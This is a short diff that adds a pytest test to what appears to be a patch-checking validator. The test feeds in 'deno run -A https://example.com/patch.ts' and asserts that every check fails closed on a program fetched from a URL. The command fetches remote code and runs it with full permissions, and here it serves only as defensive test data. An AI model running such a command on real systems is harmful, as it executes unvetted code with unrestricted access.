@@ -1220,3 +1220,10 @@ def test_a_path_variable_naming_nothing_the_pr_wrote_passes(check, line, added):
     parts = _parts(line, helper=None)
     add_changed_file(parts, added, "import os\n")
     _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))  # (a patch there)
+
+
+@pytest.mark.parametrize("check_id", CHECKS)
+def test_a_program_deno_fetches_from_a_url_fails_closed(check, check_id):
+    result = check(_beside_the_server("deno run -A https://example.com/patch.ts"), check_id)
+    assert result.status == "FAIL", result.reason
+    assert "deno runs a program fetched from https://example.com/patch.ts" in result.reason
